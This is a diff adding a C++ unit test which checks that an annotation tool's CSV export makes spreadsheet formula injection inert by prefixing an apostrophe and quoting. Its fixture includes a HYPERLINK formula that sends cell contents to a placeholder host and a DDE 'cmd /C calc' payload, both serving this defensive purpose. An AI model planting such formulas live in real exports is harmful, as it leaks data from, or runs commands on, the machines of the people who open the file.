@@ -698,6 +698,28 @@ TEST(AnnotationExport, CsvAndGeoJson) {
   const std::string history_text = history.str();
   EXPECT_EQ(std::count(history_text.begin(), history_text.end(), '\n'), 5);  // header + 4
 
+  // Text a participant typed that a spreadsheet would run as a formula is written inert: an
+  // apostrophe before it, quoted; a number's own column stays as it is (-3.5).
+  Item trap;
+  trap.layer = "traps";
+  trap.kind = ItemKind::kNumber;
+  trap.number = -3.5;
+  trap.title = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
+  trap.text = "+1+cmd|' /C calc'!A0";
+  trap.unit = "@SUM(1+1)";
+  db.addItem(trap, "-site");
+  std::ostringstream traps;
+  exportCsv(db, traps, "traps");
+  const std::string t = traps.str();
+  EXPECT_NE(t.find(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\","),
+            std::string::npos)
+      << t;
+  EXPECT_NE(t.find(",\"'+1+cmd|' /C calc'!A0\","), std::string::npos) << t;
+  EXPECT_NE(t.find(",-3.5,\"'@SUM(1+1)\","), std::string::npos) << t;
+  EXPECT_NE(t.find(",\"'-site\","), std::string::npos) << t;
+  for (const char* raw : {",=HYPERLINK", ",+1+cmd", ",@SUM", ",-site"})
+    EXPECT_EQ(t.find(raw), std::string::npos) << raw << " left live in\n" << t;
+
   // GeoJSON needs a georeference, and a projected one.
   std::ostringstream geo;
   expectError(Kind::kBadInput, "not georeferenced", [&] { exportGeoJson(db, geo); });
